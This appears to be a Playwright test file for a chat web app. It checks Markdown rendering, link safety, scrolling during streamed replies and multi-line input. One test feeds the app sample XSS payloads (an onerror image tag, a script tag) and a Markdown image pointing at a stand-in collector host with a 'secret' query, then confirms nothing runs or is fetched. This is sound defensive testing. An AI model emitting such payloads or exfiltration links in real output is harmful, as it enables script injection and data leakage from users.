import { describe, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import { openAiAnswer } from '../support/fake-llm-server.js';
import {
  KEYS,
  conversationButton,
  VIEWPORTS,
  openWithKey,
  seedTurns,
  shot,
  webSuite,
} from '../support/web-harness.js';

const LONG_URL = `https://example.com/${'a-very-long-path-segment-'.repeat(8)}end`;
const CODE = 'const answer = 42;\nconsole.log(answer);';
/** A reply in Markdown: a list, a code block, a table, a link, and a long URL. */
const MARKDOWN = [
  'Here is **what I remember**:',
  '',
  '- you live in *Lisbon*',
  '- you like green',
  '',
  '```js',
  CODE,
  '```',
  '',
  '| Key | Value |',
  '| --- | --- |',
  '| profile/city | Lisbon |',
  '',
  `See [the docs](https://example.com/docs) and ${LONG_URL}`,
].join('\n');

/** Whether anything in the message list is wider than its box (it must wrap, not scroll sideways). */
const overflowsSideways = (page: Page) =>
  page
    .getByTestId('messages')
    .evaluate((list) =>
      [list, ...list.querySelectorAll('.message')].some(
        (box) => box.scrollWidth > box.clientWidth + 1,
      ),
    );

describe('reading and writing in the chat (1280×800 and 390×844)', () => {
  const web = webSuite();

  it.each(VIEWPORTS)(
    '$name: a Markdown reply (list, code with Copy, table, link in a new tab), a long URL that wraps',
    async (viewport) => {
      const key = KEYS[viewport.name === 'wide' ? 0 : 1]!;
      web.llm.reset();
      web.llm.enqueue(openAiAnswer(MARKDOWN, [], 5));
      const page = await web.open(viewport);
      await openWithKey(page, web.app().url, key);
      await page.getByTestId('composer').fill('What do you remember about me?');
      await page.getByTestId('composer').press('Enter');
      const reply = page.getByTestId('message-assistant').last();
      await reply.getByText('profile/city').waitFor();
      await page.getByTestId('send').waitFor(); // the reply has finished
      expect(await reply.locator('strong').innerText()).toBe('what I remember');
      expect(await reply.locator('li').count()).toBe(2);
      expect((await reply.locator('pre code').innerText()).trimEnd()).toBe(CODE);
      expect(await reply.locator('table th').allInnerTexts()).toEqual(['Key', 'Value']);
      const link = reply.getByRole('link', { name: 'the docs' });
      expect(await link.getAttribute('target')).toBe('_blank');
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
      // The long URL is a link too, wrapped inside the message.
      expect(await reply.locator(`a[href="${LONG_URL}"]`).getAttribute('rel')).toBe(
        'noopener noreferrer',
      );
      expect(await overflowsSideways(page)).toBe(false);
      // Copy puts the code on the clipboard and says so.
      await reply.getByRole('button', { name: 'Copy code' }).click();
      await reply.getByRole('button', { name: 'Copied' }).waitFor();
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(CODE);
      await shot(page, `reading-${viewport.name}-markdown`);
    },
    60_000,
  );

  it('shows raw HTML in a reply as text: no element is made, no script runs', async () => {
    const html =
      '<img src=x onerror="window.pwned=1"> and <script>window.pwned=2</script> and ![leak](https://collector.invalid/q?secret=1) done';
    web.llm.reset();
    web.llm.enqueue(openAiAnswer(html));
    const page = await web.open();
    await openWithKey(page, web.app().url, KEYS[2]!);
    await page.getByTestId('composer').fill('Say some HTML');
    await page.getByTestId('send').click();
    const reply = page.getByTestId('message-assistant').last();
    await reply.getByText('done').waitFor();
    expect(await reply.innerText()).toContain('<img src=x onerror="window.pwned=1">');
    expect(await reply.innerText()).toContain('<script>window.pwned=2</script>');
    expect(await reply.locator('img, script').count()).toBe(0);
    expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
    // A Markdown image is a link the user may open, never fetched by itself (no exfiltration).
    const image = reply.getByRole('link', { name: 'Image: leak' });
    expect(await image.getAttribute('href')).toBe('https://collector.invalid/q?secret=1');
    expect(await image.getAttribute('rel')).toBe('noopener noreferrer');
    // After a reload (the stored history), the same.
    await page.reload();
    await page.getByTestId('message-assistant').last().getByText('done').waitFor();
    expect(await page.getByTestId('messages').locator('img, script').count()).toBe(0);
  }, 60_000);

  it('follows a streaming reply at the bottom, stops following when scrolled up, and "Jump to newest" goes back', async () => {
    const key = KEYS[3]!;
    web.llm.reset();
    web.llm.fallback = openAiAnswer('A short answer.');
    await seedTurns(web.app().url, key, 'scroll-test', 12);
    const page = await web.open({ width: 1280, height: 800 });
    await openWithKey(page, web.app().url, key);
    await conversationButton(page, 'scroll-test').click();
    await page.getByTestId('messages').getByText('question 11', { exact: true }).waitFor();
    // A long reply, streamed slowly: 300 words, one every 40 ms (12 s: still streaming when the
    // last step below begins, however slow the machine).
    const words = Array.from({ length: 300 }, (_, i) => `word${i}`);
    web.llm.enqueue(
      openAiAnswer(words.map((w, i) => (i % 10 === 9 ? `${w}\n\n` : w)).join(' '), [], 40),
    );
    const atBottom = () =>
      page.getByTestId('messages').evaluate((list) => {
        return list.scrollTop + list.clientHeight >= list.scrollHeight - 2;
      });
    await page.getByTestId('composer').fill('Tell me a long story');
    await page.keyboard.press('Enter');
    await page.getByTestId('messages').getByText('word30').waitFor();
    expect(await atBottom()).toBe(true);
    // Scrolled up: the list stays where the user put it while the text keeps coming.
    await page.getByTestId('messages').evaluate((list) => list.scrollTo({ top: 0 }));
    const jump = page.getByTestId('jump-to-newest');
    await jump.waitFor();
    await page.getByTestId('messages').getByText('word60').waitFor();
    expect(await page.getByTestId('messages').evaluate((list) => list.scrollTop)).toBe(0);
    expect(await atBottom()).toBe(false);
    await jump.click();
    expect(await atBottom()).toBe(true);
    await jump.waitFor({ state: 'detached' });
    // The browser reports a scroll a frame after it happened: text arriving in between must not
    // take the user's move for the page's own and snap back. Holding the report back makes that
    // moment last until the next words have arrived.
    await page.evaluate(() => {
      const hold = (event: Event) => event.stopImmediatePropagation();
      (window as { holdScroll?: typeof hold }).holdScroll = hold;
      window.addEventListener('scroll', hold, { capture: true });
    });
    const shownWords = await page.getByTestId('messages').innerText();
    await page.getByTestId('messages').evaluate((list) => list.scrollTo({ top: 0 }));
    const next = words.find((word) => !shownWords.includes(word));
    expect(next).toBeDefined();
    await page.getByTestId('messages').getByText(next!).waitFor();
    await jump.waitFor();
    expect(await page.getByTestId('messages').evaluate((list) => list.scrollTop)).toBe(0);
    await page.evaluate(() => {
      const hold = (window as { holdScroll?: (event: Event) => void }).holdScroll!;
      window.removeEventListener('scroll', hold, { capture: true });
    });
    await jump.click();
    expect(await atBottom()).toBe(true);
    // Following again: at the bottom when the reply ends.
    await page.getByTestId('messages').getByText('word299').waitFor();
    await page.getByTestId('send').waitFor();
    expect(await atBottom()).toBe(true);
  }, 60_000);

  it('writes several lines: Shift+Enter starts a line, Enter sends, an input method composing does not send', async () => {
    web.llm.reset();
    web.llm.enqueue(openAiAnswer('Two lines received.'));
    const page = await web.open(VIEWPORTS[1]);
    await openWithKey(page, web.app().url, KEYS[4]!);
    const composer = page.getByTestId('composer');
    // Focused on load: typing goes straight in.
    await page.waitForFunction(() => document.activeElement?.id === 'composer');
    await page.keyboard.type('line one');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('line two');
    expect(await composer.inputValue()).toBe('line one\nline two');
    const oneLine = await composer.evaluate((field) => field.clientHeight);
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('line three');
    expect(await composer.evaluate((field) => field.clientHeight)).toBeGreaterThan(oneLine);
    // Enter during an IME composition (isComposing) leaves the text where it is.
    await composer.evaluate((field) =>
      field.dispatchEvent(
        new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true }),
      ),
    );
    expect(await composer.inputValue()).toBe('line one\nline two\nline three');
    await page.keyboard.press('Enter');
    await page.getByText('Two lines received.').waitFor();
    expect(await composer.inputValue()).toBe('');
    expect(await page.getByTestId('message-user').innerText()).toBe(
      'line one\nline two\nline three',
    );
    expect(web.llm.requests).toHaveLength(1);
    // Text not sent yet stays with its conversation: another conversation and back, it is there.
    await composer.fill('a draft');
    const menu = page.getByRole('button', { name: 'Conversations' });
    await menu.click();
    await page.getByTestId('new-conversation').click();
    expect(await composer.inputValue()).toBe('');
    await menu.click();
    await page.getByRole('button', { name: /^line one line two line three/ }).click();
    expect(await composer.inputValue()).toBe('a draft');
  }, 60_000);
});
